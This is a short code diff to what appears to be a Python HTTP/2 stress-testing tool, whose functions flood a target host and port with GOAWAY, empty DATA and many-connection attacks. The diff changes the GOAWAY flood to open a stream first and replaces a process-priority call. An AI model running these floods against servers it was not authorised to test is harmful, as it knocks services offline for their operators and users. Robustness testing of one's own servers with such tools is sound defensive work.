@@ -9,7 +9,6 @@ import contextlib
 import gzip
 import itertools
 import json
-import os
 import select
 import selectors
 import socket
@@ -17,6 +16,7 @@ import sys
 import threading
 import time
 
+import cores
 from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, WINDOW_MAX, block, call,
                   data, frame, message, preface, reset, settings, window_update)
 
@@ -159,6 +159,8 @@ def empty_data_flood():
 
 @attack
 def goaway_flood():
+    """With a call open: without one the first of them is the end."""
+    yield headers(1, block("Talk"))
     yield from again(frame(GOAWAY, 0, 0, bytes(8)))
 
 
@@ -352,7 +354,7 @@ def crowd(name, address, until, connections, tally):
 
 
 def main(name, host, port, seconds, connections):
-    os.nice(10)  # an attacker has machines of its own
+    cores.give_way()
     tally, address = Tally(), (host, int(port))
     until = time.monotonic() + float(seconds)
     run = flood if name in ATTACKS else crowd
